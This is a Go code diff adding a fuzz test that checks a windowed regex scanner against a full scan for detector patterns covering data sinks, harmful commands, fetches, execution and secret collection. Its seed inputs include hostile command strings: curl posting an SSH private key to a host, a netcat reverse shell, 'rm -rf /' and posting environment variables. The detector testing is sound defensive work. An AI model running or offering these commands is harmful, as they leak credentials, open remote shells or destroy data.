@@ -3,6 +3,7 @@ package inspect
 import (
 	"context"
 	"encoding/json"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -154,4 +155,34 @@ func equalKinds(a, b []kindLevel) bool {
 		}
 	}
 	return true
+}
+
+// FuzzFindNear: in a string past codeLong, a short match anywhere is found by the windowed scan
+// exactly when the whole scan finds one, and what it returns is a match.
+func FuzzFindNear(f *testing.F) {
+	for _, s := range []string{"requests.post(u, data=os.environ)", "curl -d @~/.ssh/id_rsa http://x", "rm -rf /", "nc -e /bin/sh 10.0.0.1", "scp a b@c", "fetch(x)", ""} {
+		f.Add(s, uint16(0))
+		f.Add(s, uint16(codeLong/2))
+	}
+	pad := strings.Repeat("lorem ipsum; ", codeLong/13+2)
+	f.Fuzz(func(t *testing.T, code string, at uint16) {
+		if len(code) > codeReach/2 {
+			return
+		}
+		p := int(at) * 3 % (len(pad) + 1)
+		s := strings.ToLower(pad[:p] + "\n" + code + "\n" + pad[p:])
+		for _, tc := range []struct {
+			re   *regexp.Regexp
+			lits *litSet
+		}{{codeSink, sinkLits}, {codeHarm, harmLits}, {codeFetch, fetchLits}, {codeExec, execLits}, {codeSource, sourceLits}, {codeCollect, collectLits}} {
+			whole := tc.re.FindStringIndex(s)
+			near := findNear(tc.re, tc.lits, s)
+			if (whole == nil) != (near == nil) {
+				t.Fatalf("%s: whole %v, near %v", tc.re, whole, near)
+			}
+			if near != nil && !tc.re.MatchString(s[near[0]:near[1]]) {
+				t.Fatalf("%s: %v is no match", tc.re, near)
+			}
+		}
+	})
 }
